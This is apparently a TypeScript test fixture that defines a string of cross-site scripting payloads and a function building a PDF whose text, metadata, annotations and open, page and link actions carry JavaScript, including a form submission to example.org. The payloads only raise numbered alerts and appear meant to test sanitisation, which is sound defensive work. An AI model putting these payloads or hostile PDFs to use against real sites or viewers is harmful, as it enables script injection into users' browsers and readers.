/** What becomes a script, an image or a link where somebody takes it for HTML or Markdown. */
export const SCRIPTS =
  '<img src=x onerror=alert(1)><script data-planted>alert(2)</script><svg data-planted onload=alert(3)></svg>' +
  '[x](javascript:alert(4))"\'` onfocus=alert(5) autofocus x="';

/** A PDF whose text, metadata, names and notes are SCRIPTS, with JavaScript that runs on opening, on a page and by a link. */
export function hostilePdf(): Buffer {
  const text = `(${SCRIPTS.replace(/[\\()]/g, '\\$&')})`;
  const script = '<< /S /JavaScript /JS (app.alert\\(6\\); this.submitForm\\("https://example.org"\\)) >>';
  const content = `BT /F1 9 Tf 20 800 Td ${text} Tj 0 -60 Td (A page with a script, total 12.50 EUR) Tj ET`;
  const annotation = (rest: string) => `<< /Type /Annot /Rect [20 600 300 640] /Contents ${text} /T ${text} ${rest} >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /Names << /JavaScript << /Names [${text} ${script}] >> >> /AA << /WC ${script} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${script} >> /Resources << /Font << /F1 4 0 R >> >>
 /Contents 5 0 R /Annots [7 0 R 8 0 R 9 0 R] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Title ${text} /Author ${text} /Subject ${text} /Keywords ${text} >>`,
    annotation('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(7\\)) >>'),
    annotation(`/Subtype /Link /A ${script}`),
    annotation('/Subtype /FreeText /DA (/Helv 9 Tf)'),
  ];
  let pdf = '%PDF-1.7\n';
  const offsets = objects.map((body, i) => {
    const offset = pdf.length;
    pdf += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${pdf.length}\n%%EOF\n`;
  return Buffer.from(`${pdf}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}${trailer}`, 'latin1');
}
